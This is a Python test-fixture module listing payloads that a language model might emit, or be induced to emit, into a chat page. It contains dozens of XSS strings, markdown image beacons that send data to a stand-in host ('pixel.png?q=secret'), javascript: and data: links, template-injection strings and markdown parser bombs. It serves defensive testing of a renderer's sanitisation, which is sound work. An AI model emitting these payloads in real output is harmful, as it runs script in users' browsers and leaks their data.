"""What a model might write, or somebody might make it write, to run a script or to call home from the chat page.

`X` stands for a server elsewhere. Each sets `hit` or opens a dialog if a script of it runs.
"""

__all__ = ["ATTACKS", "BOMBS"]

X = "http://elsewhere.example"
ATTACKS = (
    "<script>hit=1;alert(1)</script>",
    "<SCRIPT SRC=http://elsewhere.example/a.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    f"<img src={X}/pixel.png>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    f'<svg><use href="{X}/a.svg#a"/></svg>',
    f'<iframe src="{X}"></iframe>',
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    f'<object data="{X}/a.swf"></object><embed src="{X}/a">',
    f'<link rel="stylesheet" href="{X}/a.css"><style>@import url({X}/b.css);*{{background:url({X}/c)}}</style>',
    f'<meta http-equiv="refresh" content="0;url={X}">',
    f'<base href="{X}/">',
    f'<form action="{X}"><button>go</button></form>',
    '<a href="javascript:alert(1)">click</a>',
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    f"![pixel]({X}/pixel.png)",
    f"![]({X}/pixel.png?q=secret)",
    f"![a][b]\n\n[b]: {X}/pixel.png",
    f"[![a]({X}/pixel.png)]({X})",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](\\javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[click](blob:http://127.0.0.1/x) [me](file:///etc/passwd) [it](//elsewhere.example) [up](/metrics)",
    '[a](http://elsewhere.example/"onmouseover="alert(1))',
    "<javascript:alert(1)> javascript:alert(1)",
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    "`<img src=x onerror=alert(1)>` **<img src=x onerror=alert(1)>** # <b onclick=alert(1)>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | `a` |",
    "[https://bank.example](http://elsewhere.example/login) \u202etxt.exe \u200b<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{alert(1)} <%= alert(1) %>",
    "\u2028\u2029</textarea></title></style></script><script>alert(1)</script>",
)  # fmt: skip
BOMBS = (  # slow to read for a careless reader of markdown
    "[" * 5000,
    "*a " * 5000,
    "**a _b `c " * 2000,
    "> " * 3000 + "a",
    "- " * 3000 + "a",
    "![](" * 3000,
    "`" + "``" * 4000,
    "|" * 3000 + "\n" + "|-" * 3000 + "|",
    "<http://" * 2000,
    "h\n" * 4000,
)
